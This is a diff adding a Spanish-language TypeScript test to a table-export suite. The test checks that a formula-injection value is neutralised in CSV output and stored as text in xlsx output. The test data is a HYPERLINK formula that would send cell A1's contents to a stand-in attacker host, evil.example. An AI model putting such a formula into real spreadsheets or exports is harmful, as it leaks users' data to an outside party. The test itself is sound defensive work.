@@ -31,6 +31,18 @@ describe("exportar una tabla", () => {
     ]);
   });
 
+  it("un número de acta que es una fórmula sale neutralizado en el CSV y como texto en el xlsx", async () => {
+    const ataque: TablaExportable = {
+      nombre: "comite-por-centro",
+      titulo: "Actas",
+      columnas: [{ clave: "numeroActa", titulo: "Número del acta", tipo: "texto" }],
+      filas: [{ numeroActa: '=HYPERLINK("http://evil.example/?"&A1,"ver")' }],
+    };
+    expect(aCsv(ataque).split("\r\n")[1]).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1,""ver"")"`);
+    const [, [celda]] = (await readSheet(await aXlsx(ataque))) as [unknown, [unknown]];
+    expect(celda).toBe('=HYPERLINK("http://evil.example/?"&A1,"ver")');
+  });
+
   it("el xlsx es un libro real con números que Excel puede sumar", async () => {
     const filas = await readSheet(await aXlsx(tabla));
     expect(filas).toEqual([
